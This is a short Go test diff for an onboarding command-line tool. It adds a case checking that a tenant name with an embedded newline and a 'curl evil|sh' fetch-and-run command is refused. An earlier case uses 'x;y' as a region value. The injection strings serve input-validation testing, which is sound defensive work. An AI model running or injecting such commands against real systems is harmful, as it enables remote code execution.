@@ -85,6 +85,7 @@ func TestOnboarding(t *testing.T) {
 		"should look like":  {"tenant", "onboarding", "acme", "--principal", "pgseal"},
 		"region":            append([]string{"tenant", "onboarding", "acme", "--region", "x;y"}, principal...),
 		"name the tenant":   append([]string{"tenant", "onboarding"}, principal...),
+		"control character": append([]string{"tenant", "onboarding", "acme\ncurl evil|sh"}, principal...),
 	} {
 		if got := d.refused(exitUsage, args...); !strings.Contains(got, says) {
 			t.Errorf("%v says %q", args, got)
